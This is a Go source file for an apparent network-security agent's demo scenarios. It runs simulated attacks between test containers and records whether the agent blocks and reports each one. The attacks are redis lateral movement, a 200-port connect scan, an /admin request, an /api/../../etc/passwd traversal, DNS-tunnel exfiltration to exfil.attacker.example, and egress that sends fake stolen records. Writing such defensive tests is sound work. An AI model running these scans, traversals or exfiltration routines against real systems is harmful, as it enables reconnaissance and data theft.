package scenario

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/base32"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/miekg/dns"

	"bulkhead.dev/bulkhead/agent/api"
	"bulkhead.dev/bulkhead/agent/events"
	"bulkhead.dev/bulkhead/testenv"
)

// Attack is one attack of the scenario.
type Attack struct {
	// ID is short and stable: "lateral-compromised", "scan", …
	ID string
	// Kind is what it stands for: "lateral movement", "port scan", …
	Kind string
	// Short says who attacks what, in a few words: "compromised → db:6379".
	Short string
	// Title says in full who does what.
	Title string

	// run performs the attack and fills in Client, Probes and Reached.
	run func(ctx context.Context, o *Outcome) error
	// match selects the agent's events about the attack.
	match func(*events.Event) bool
}

// Outcome is what came of one attack.
type Outcome struct {
	Attack Attack
	// Client is what the attacking client saw, in words.
	Client string
	// Probes is how many connections, requests or queries the attack
	// made; Reached is how many of them reached the target, as the target
	// counted them (its /proc/net/snmp counters, or the api's request log).
	Probes, Reached int
	// Blocked is true when nothing reached the target.
	Blocked bool
	// Events are the agent's drop and violation events about the attack
	// (none when no agent runs).
	Events []events.Event
	// Reported is true when Events is not empty.
	Reported bool
	// After is a normal order made right after the attack.
	After Result
	Took  time.Duration
}

// eventWait bounds how long RunAttack waits for the agent's events.
const eventWait = 3 * time.Second

// Attacks returns the attacks, in the order the demo runs them.
func (w *World) Attacks() []Attack {
	db := netip.AddrPortFrom(w.DB.IP4, RedisPort)
	return []Attack{
		{
			ID: "lateral-compromised", Kind: "lateral movement", Short: fmt.Sprintf("compromised → db:%d", RedisPort),
			Title: fmt.Sprintf("compromised → db:%d redis PING", RedisPort),
			run:   w.redisProbe(w.Compromised, db),
			match: flowMatch("compromised", "db", RedisPort),
		},
		{
			ID: "lateral-frontend", Kind: "lateral movement", Short: fmt.Sprintf("frontend → db:%d", RedisPort),
			Title: fmt.Sprintf("frontend → db:%d redis PING (frontend may only talk to api)", RedisPort),
			run:   w.redisProbe(w.Frontend, db),
			match: flowMatch("frontend", "db", RedisPort),
		},
		{
			ID: "scan", Kind: "port scan", Short: "compromised → api, db: 200 ports",
			Title: "compromised scans api and db: TCP connect to 100 ports each",
			run:   w.portScan,
			match: func(ev *events.Event) bool {
				return isFlowEvent(ev) && ev.Src.Workload == "compromised" && (ev.Dst.Workload == "api" || ev.Dst.Workload == "db")
			},
		},
		{
			ID: "http-admin", Kind: "HTTP path never served", Short: "frontend → api GET /admin",
			Title: "frontend → api GET /admin, on a keep-alive connection that just carried GET /api/orders",
			run:   w.httpAfterNormal("/admin"),
			match: httpMatch("/admin"),
		},
		{
			ID: "http-traversal", Kind: "HTTP path traversal", Short: "frontend → api GET /api/../../etc/passwd",
			Title: "frontend → api GET /api/../../etc/passwd",
			run:   w.httpAfterNormal("/api/../../etc/passwd"),
			match: httpMatch("passwd"),
		},
		{
			ID: "dns-exfil", Kind: "DNS exfiltration", Short: "api → dns: random-label queries",
			Title: "api → dns: 3 queries for <long random labels>.exfil.attacker.example",
			run:   w.dnsExfil,
			match: func(ev *events.Event) bool {
				return isFlowEvent(ev) && ev.Src.Workload == "api" && strings.Contains(ev.L7.Query, "exfil.attacker.example")
			},
		},
		{
			ID: "egress", Kind: "egress to an unknown IP", Short: fmt.Sprintf("api → %s:%d", UnknownIP, PaymentsPort),
			Title: fmt.Sprintf("api → %s:%d (no DNS answer named it)", UnknownIP, PaymentsPort),
			run:   w.egressUnknown,
			match: func(ev *events.Event) bool {
				return isFlowEvent(ev) && ev.Src.Workload == "api" && ev.Dst.IP == UnknownIP
			},
		},
	}
}

// RunAttack runs a, collects the agent's events about it (when the agent
// runs) and makes a normal order afterwards.
func (w *World) RunAttack(ctx context.Context, a Attack) (Outcome, error) {
	o := Outcome{Attack: a}
	var mark Mark
	agent := w.Agent != nil && w.Agent.Running()
	if agent {
		var err error
		if mark, err = w.Agent.Events.Mark(); err != nil {
			return o, err
		}
	}
	start := time.Now()
	if err := a.run(ctx, &o); err != nil {
		return o, fmt.Errorf("scenario: attack %s: %w", a.ID, err)
	}
	o.Took = time.Since(start)
	o.Blocked = o.Reached == 0
	if agent {
		evs, err := w.Agent.Events.Wait(ctx, mark, eventWait, a.match)
		if err != nil {
			return o, err
		}
		o.Events, o.Reported = evs, len(evs) > 0
	}
	o.After = w.Check(ctx)
	return o, nil
}

// isFlowEvent is true for the events that report a flow the policy did not
// allow.
func isFlowEvent(ev *events.Event) bool {
	return ev.Type == events.Drop || ev.Type == events.Violation
}

func flowMatch(src, dst string, port uint16) func(*events.Event) bool {
	return func(ev *events.Event) bool {
		return isFlowEvent(ev) && ev.Src.Workload == src && ev.Dst.Workload == dst && ev.Dst.Port == port
	}
}

func httpMatch(pathPart string) func(*events.Event) bool {
	return func(ev *events.Event) bool {
		return isFlowEvent(ev) && ev.Src.Workload == "frontend" && ev.Dst.Workload == "api" && strings.Contains(ev.L7.Path, pathPart)
	}
}

// counted runs fn and sets o.Reached to how much counter grew in the
// target hosts meanwhile.
func counted(o *Outcome, counter string, targets []*testenv.Host, fn func() error) error {
	before := make([]Counters, len(targets))
	for i, h := range targets {
		c, err := ReadCounters(h)
		if err != nil {
			return err
		}
		before[i] = c
	}
	ferr := fn()
	for i, h := range targets {
		c, err := ReadCounters(h)
		if err != nil {
			return errors.Join(ferr, err)
		}
		o.Reached += int(c.Sub(before[i])[counter])
	}
	return ferr
}

// redisProbe connects from h to redis and sends PING.
func (w *World) redisProbe(h *testenv.Container, addr netip.AddrPort) func(context.Context, *Outcome) error {
	return func(ctx context.Context, o *Outcome) error {
		o.Probes = 1
		return counted(o, TCPPassiveOpens, []*testenv.Host{w.DB.Host}, func() error {
			ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
			defer cancel()
			start := time.Now()
			conn, err := h.DialContext(ctx, "tcp", addr.String())
			if err != nil {
				o.Client = fmt.Sprintf("%s after %v", describeErr(err), roundDur(time.Since(start)))
				return nil
			}
			defer conn.Close()
			rep, err := roundTrip(ctx, conn, "PING")
			if err != nil {
				o.Client = "connected, then " + describeErr(err)
				return nil
			}
			o.Client = "connected; redis answered " + rep.String()
			return nil
		})
	}
}

// scanPorts are the ports the scan probes on each target: 1-99 and the
// target's service port.
func scanPorts(service int) []int {
	ports := make([]int, 0, 100)
	for p := 1; p < 100; p++ {
		ports = append(ports, p)
	}
	return append(ports, service)
}

// portScan is a TCP connect scan from compromised of 100 ports on api and
// on db, 32 probes at a time, 1 s per probe.
func (w *World) portScan(ctx context.Context, o *Outcome) error {
	type target struct {
		name string
		addr netip.Addr
		port int
	}
	targets := []target{{"api", w.API.IP4, APIPort}, {"db", w.DB.IP4, RedisPort}}
	var (
		mu                      sync.Mutex
		open                    []string
		refused, timedOut, othr int
	)
	return counted(o, TCPPassiveOpens, []*testenv.Host{w.API.Host, w.DB.Host}, func() error {
		sem := make(chan struct{}, 32)
		var wg sync.WaitGroup
		for _, t := range targets {
			for _, p := range scanPorts(t.port) {
				o.Probes++
				wg.Add(1)
				sem <- struct{}{}
				go func() {
					defer wg.Done()
					defer func() { <-sem }()
					dctx, cancel := context.WithTimeout(ctx, time.Second)
					defer cancel()
					conn, err := w.Compromised.DialContext(dctx, "tcp", netip.AddrPortFrom(t.addr, uint16(p)).String())
					mu.Lock()
					defer mu.Unlock()
					switch {
					case err == nil:
						conn.Close()
						open = append(open, fmt.Sprintf("%s:%d", t.name, p))
					case errors.Is(err, syscall.ECONNREFUSED):
						refused++
					case isTimeout(err):
						timedOut++
					default:
						othr++
					}
				}()
			}
		}
		wg.Wait()
		if len(open) == 0 {
			o.Client = fmt.Sprintf("no open port found (%s: %d reset, %d timed out, %s)", api.Count(o.Probes, "probe"), refused, timedOut, api.Count(othr, "other error"))
		} else {
			o.Client = fmt.Sprintf("open: %s (%s)", strings.Join(open, ", "), api.Count(o.Probes, "probe"))
		}
		return nil
	})
}

// httpAfterNormal opens one connection from the frontend to the api, sends
// a normal request on it, then requests target on the same connection, the
// bytes written as they are (no client-side clean-up of the path, no retry
// on another connection).
func (w *World) httpAfterNormal(target string) func(context.Context, *Outcome) error {
	return func(ctx context.Context, o *Outcome) error {
		o.Probes = 1
		ctx, cancel := context.WithTimeout(ctx, 3*time.Second)
		defer cancel()
		conn, err := w.Frontend.DialContext(ctx, "tcp", netip.AddrPortFrom(w.API.IP4, APIPort).String())
		if err != nil {
			return err
		}
		defer conn.Close()
		if dl, ok := ctx.Deadline(); ok {
			_ = conn.SetDeadline(dl)
		}
		br := bufio.NewReader(conn)
		// The Host header a browser, and the frontend's client, send.
		host := netip.AddrPortFrom(w.API.IP4, APIPort).String()
		first, err := rawGet(conn, br, host, "/api/orders")
		if err != nil || first != http.StatusOK {
			return fmt.Errorf("the normal request before the attack: status %d, %v", first, err)
		}
		before := w.shop.Received(target)
		start := time.Now()
		status, err := rawGet(conn, br, host, target)
		var what string
		if err != nil {
			what = fmt.Sprintf("%s after %v", describeErr(err), roundDur(time.Since(start)))
		} else {
			what = fmt.Sprintf("answered %d %s", status, http.StatusText(status))
		}
		o.Client = fmt.Sprintf("GET /api/orders → %d; then GET %s on the same connection → %s", first, target, what)
		o.Reached = w.shop.Received(target) - before
		return nil
	}
}

// rawGet sends "GET target" on an HTTP/1.1 keep-alive connection and reads
// the answer.
func rawGet(conn net.Conn, br *bufio.Reader, host, target string) (int, error) {
	req := "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: scenario\r\n\r\n"
	if _, err := io.WriteString(conn, req); err != nil {
		return 0, err
	}
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return 0, err
	}
	_, err = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode, err
}

// dnsExfil sends three queries whose labels carry random data, the way DNS
// tunnels exfiltrate, from the api to the dns server.
func (w *World) dnsExfil(ctx context.Context, o *Outcome) error {
	const queries = 3
	o.Probes = queries
	names := make([]string, queries)
	for i := range names {
		names[i] = randomLabel(50) + "." + randomLabel(50) + ".exfil.attacker.example."
	}
	answers := make([]string, queries)
	err := counted(o, UDPInDatagrams, []*testenv.Host{w.DNS.Host}, func() error {
		var wg sync.WaitGroup
		for i, name := range names {
			wg.Add(1)
			go func() {
				defer wg.Done()
				answers[i] = w.dnsQuery(ctx, w.API, name)
			}()
		}
		wg.Wait()
		return nil
	})
	o.Client = summarizeAnswers(answers)
	return err
}

// dnsQuery asks the dns server for name (type A) from h and says what came
// back.
func (w *World) dnsQuery(ctx context.Context, h *testenv.Container, name string) string {
	ctx, cancel := context.WithTimeout(ctx, 1500*time.Millisecond)
	defer cancel()
	conn, err := h.DialContext(ctx, "udp", w.dnsAddr())
	if err != nil {
		return describeErr(err)
	}
	defer conn.Close()
	if dl, ok := ctx.Deadline(); ok {
		_ = conn.SetDeadline(dl)
	}
	co := &dns.Conn{Conn: conn}
	m := new(dns.Msg)
	m.SetQuestion(name, dns.TypeA)
	if err := co.WriteMsg(m); err != nil {
		return describeErr(err)
	}
	r, err := co.ReadMsg()
	if err != nil {
		if isTimeout(err) {
			return "no answer (timed out)"
		}
		return describeErr(err)
	}
	return dns.RcodeToString[r.Rcode]
}

// summarizeAnswers counts identical answers: "no answer (timed out) ×3".
func summarizeAnswers(answers []string) string {
	var order []string
	n := map[string]int{}
	for _, a := range answers {
		if n[a] == 0 {
			order = append(order, a)
		}
		n[a]++
	}
	parts := make([]string, len(order))
	for i, a := range order {
		parts[i] = fmt.Sprintf("%s ×%d", a, n[a])
	}
	return strings.Join(parts, ", ")
}

// egressUnknown connects from the api to UnknownIP:443 and sends data.
func (w *World) egressUnknown(ctx context.Context, o *Outcome) error {
	o.Probes = 1
	return counted(o, TCPPassiveOpens, []*testenv.Host{w.Internet.Host}, func() error {
		ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
		defer cancel()
		start := time.Now()
		conn, err := w.API.DialContext(ctx, "tcp", netip.AddrPortFrom(UnknownIP, PaymentsPort).String())
		if err != nil {
			o.Client = fmt.Sprintf("%s after %v", describeErr(err), roundDur(time.Since(start)))
			return nil
		}
		defer conn.Close()
		if _, err := conn.Write([]byte("stolen customer records\n")); err != nil {
			o.Client = "connected, then " + describeErr(err)
			return nil
		}
		o.Client = "connected and sent data"
		return nil
	})
}

// randomLabel returns n random lower-case base32 characters (a valid DNS
// label for n ≤ 63).
func randomLabel(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(b))[:n]
}

// describeErr says in words what a network error means to the client.
func describeErr(err error) string {
	switch {
	case errors.Is(err, syscall.ECONNREFUSED):
		return "connection refused (TCP reset)"
	case errors.Is(err, syscall.ECONNRESET):
		return "connection reset"
	case isTimeout(err):
		return "timed out"
	case errors.Is(err, io.EOF), errors.Is(err, io.ErrUnexpectedEOF):
		return "connection closed without an answer"
	case errors.Is(err, syscall.EHOSTUNREACH), errors.Is(err, syscall.ENETUNREACH):
		return "unreachable"
	}
	return err.Error()
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.Is(err, os.ErrDeadlineExceeded) || errors.Is(err, context.DeadlineExceeded) || (errors.As(err, &ne) && ne.Timeout())
}

func roundDur(d time.Duration) time.Duration {
	switch {
	case d < time.Millisecond:
		return d.Round(10 * time.Microsecond)
	case d < time.Second:
		return d.Round(100 * time.Microsecond)
	}
	return d.Round(10 * time.Millisecond)
}
